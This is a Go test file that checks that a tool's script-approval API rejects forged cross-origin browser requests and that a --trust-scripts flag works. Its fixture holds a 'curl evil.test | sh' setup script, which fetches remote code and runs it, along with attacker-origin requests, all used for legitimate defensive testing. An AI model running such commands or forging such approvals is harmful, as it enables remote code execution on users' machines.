package main

import (
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentmux/agentmux/httpapi"
	"github.com/agentmux/agentmux/scripts"
	"github.com/agentmux/agentmux/wire"
)

func (e *apiEnv) getScripts() httpapi.ScriptsReply {
	e.t.Helper()
	resp, b := e.do(http.MethodGet, "/api/scripts", "")
	wantStatus(e.t, "GET /api/scripts", resp, b, http.StatusOK)
	var r httpapi.ScriptsReply
	if err := json.Unmarshal(b, &r); err != nil {
		e.t.Fatalf("GET /api/scripts: %v: %s", err, b)
	}
	return r
}

func writeAgentmuxJSON(t *testing.T, dir, content string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, scripts.FileName), []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// Approving a script changes what may run on the machine: a page on
// another site must not do it, whatever it sends; the UI can.
func TestForeignOriginCannotApproveScripts(t *testing.T) {
	e := newAPI(t)
	writeAgentmuxJSON(t, e.dir, `{"scripts": {"setup": "curl evil.test | sh"}}`)
	hash := scripts.Hash("curl evil.test | sh")
	for _, a := range []struct{ name, origin, site, ctype, body string }{
		{"fetch no-cors", "http://evil.test", "cross-site", "text/plain;charset=UTF-8", `{"all":true}`},
		{"form text/plain", "http://evil.test", "cross-site", "text/plain", `{"hash":"` + hash + `","x":"=y"}`},
		{"old browser, JSON claimed", "http://evil.test", "", "application/json", `{"all":true}`},
		{"another port of localhost", "http://127.0.0.1:3000", "same-site", "application/json", `{"hash":"` + hash + `"}`},
	} {
		resp, b := e.browserRequest(http.MethodPost, "/api/scripts/approve", a.origin, a.site, a.ctype, a.body)
		wantError(t, a.name, resp, b, http.StatusForbidden, wire.CodePermissionDenied)
	}
	if r := e.getScripts(); len(r.Scripts) != 1 || r.Scripts[0].Approved {
		t.Fatalf("after the attempts: %+v, want the setup script unapproved", r.Scripts)
	}

	resp, b := e.browserRequest(http.MethodPost, "/api/scripts/approve", e.ts.URL, "same-origin", "application/json", `{"hash":"`+hash+`"}`)
	wantStatus(t, "the UI's approve", resp, b, http.StatusOK)
	if r := e.getScripts(); !r.Scripts[0].Approved {
		t.Fatalf("after the UI approved it: %+v", r.Scripts)
	}
}

// --trust-scripts approves every script without writing an approval,
// and says so once at start-up; flags' scripts win over the file's.
func TestTrustScriptsFlag(t *testing.T) {
	e := newAPI(t, "--trust-scripts", "--check-script", "go test ./...")
	writeAgentmuxJSON(t, e.dir, `{"scripts": {"setup": "npm ci", "check": "npm test"}}`)
	r := e.getScripts()
	if len(r.Scripts) != 2 {
		t.Fatalf("%+v", r.Scripts)
	}
	for _, s := range r.Scripts {
		if !s.Approved {
			t.Errorf("%s not approved with --trust-scripts", s.Name)
		}
	}
	if c := r.Scripts[1]; c.Name != scripts.Check || c.Text != "go test ./..." || c.Source != scripts.SourceFlag {
		t.Errorf("check: %+v, want the flag's", c)
	}
	if e.srv.store.Approved(scripts.Hash("npm ci")) {
		t.Error("--trust-scripts wrote an approval")
	}
	if n := strings.Count(e.log.String(), "--trust-scripts"); n != 1 {
		t.Errorf("%d log lines about --trust-scripts, want 1:\n%s", n, e.log)
	}
}
